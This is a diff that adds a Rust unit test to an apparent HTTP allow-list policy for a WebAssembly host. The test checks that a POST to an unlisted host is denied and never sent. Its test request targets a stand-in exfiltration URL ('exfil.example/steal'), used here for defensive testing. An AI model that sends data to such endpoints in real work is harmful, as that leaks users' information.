@@ -163,6 +163,22 @@ mod tests {
         assert!(AllowList::new(&["ftp://x".into()]).is_err());
     }
 
+    /// The hook itself, with a real request and body: an unlisted host is
+    /// refused with HttpRequestDenied, and nothing is sent anywhere.
+    #[test]
+    fn an_unlisted_host_is_denied() {
+        use http_body_util::{BodyExt, Full};
+        let mut policy = Policy { allow: AllowList::new(&["https://graph.microsoft.com".into()]).unwrap() };
+        let body = Full::new(bytes::Bytes::from_static(b"{\"Query\":\"x\"}"))
+            .map_err(|never| match never {})
+            .boxed_unsync();
+        let request = http::Request::post("https://exfil.example/steal").body(body).unwrap();
+        let future = policy.send_request(request, None, Box::new(async { Ok(()) }));
+        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+        let result = runtime.block_on(Box::into_pin(future));
+        assert!(matches!(result, Err(wasmtime_wasi_http::Error::HttpRequestDenied)));
+    }
+
     #[test]
     fn origins_compare_with_default_ports_and_case() {
         let allow = AllowList::new(&["https://Graph.Microsoft.com".into()]).unwrap();
